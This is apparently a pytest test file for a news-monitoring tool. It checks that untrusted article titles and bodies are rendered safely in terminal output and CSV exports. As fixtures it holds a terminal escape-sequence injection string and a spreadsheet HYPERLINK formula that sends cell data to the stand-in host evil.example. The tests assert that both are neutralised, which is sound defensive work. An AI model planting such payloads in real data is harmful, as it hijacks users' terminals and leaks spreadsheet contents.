"""Stored text is untrusted: terminals get it without control characters and without markup."""

from __future__ import annotations

import csv
import io

from rich.console import Console
from sqlalchemy.orm import Session

from monitor import render
from monitor.store import open_store as connect
from tests.conftest import run_monitor
from tests.storing import article_data, upsert_article

HOSTILE = "روسیه [/x] [link=http://evil.example]click[/link] \x1b[2J\x1b]0;owned\x07\x1b]8;;http://e\x1b\\l\x9b31m"


def test_plain_strips_escape_sequences_and_keeps_text():
    out = render.plain(HOSTILE)
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    assert out.startswith("روسیه [/x] [link=http://evil.example]click[/link]")


def test_table_prints_markup_literally_without_escapes():
    buf = io.StringIO()
    console = Console(file=buf, force_terminal=True, width=300, color_system=None)
    render.emit([{"title": HOSTILE}], "table", title=HOSTILE, console=console)
    text = buf.getvalue()
    assert "[/x]" in text and "[link=http://evil.example]click[/link]" in text
    assert "\x1b]" not in text and "\x1b[2J" not in text and "owned\x07" not in text


def test_show_prints_a_hostile_title_literally(db_url: str):
    with Session(connect(db_url)) as session:
        article, _ = upsert_article(
            session,
            article_data(
                canonical_url="https://www.mehrnews.com/news/1",
                url="https://www.mehrnews.com/news/1",
                outlet="mehr",
                title=HOSTILE,
                body="متن [bold]خبر[/bold] \x1b[31mقرمز",
                lead="[/x]",
            ),
        )
        session.commit()
        article_id = article.id
    proc = run_monitor("show", str(article_id), "--db", db_url)
    assert "[/x]" in proc.stdout and "[bold]خبر[/bold]" in proc.stdout
    assert "\x1b" not in proc.stdout


def test_query_csv_cannot_run_as_a_spreadsheet_formula(db_url: str):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"روسیه")'
    with Session(connect(db_url)) as session:
        upsert_article(
            session,
            article_data(
                canonical_url="https://www.mehrnews.com/news/2",
                url="https://www.mehrnews.com/news/2",
                outlet="mehr",
                title=formula,
                body="متن خبر درباره ایران و روسیه",
            ),
        )
        session.commit()
    proc = run_monitor("query", "--db", db_url, "--rows", "-f", "csv", "--outlet", "mehr")
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    titles = [row["title"] for row in rows]
    assert "'" + formula in titles
    assert not any(cell.startswith(render.FORMULA_START) for row in rows for cell in row.values())
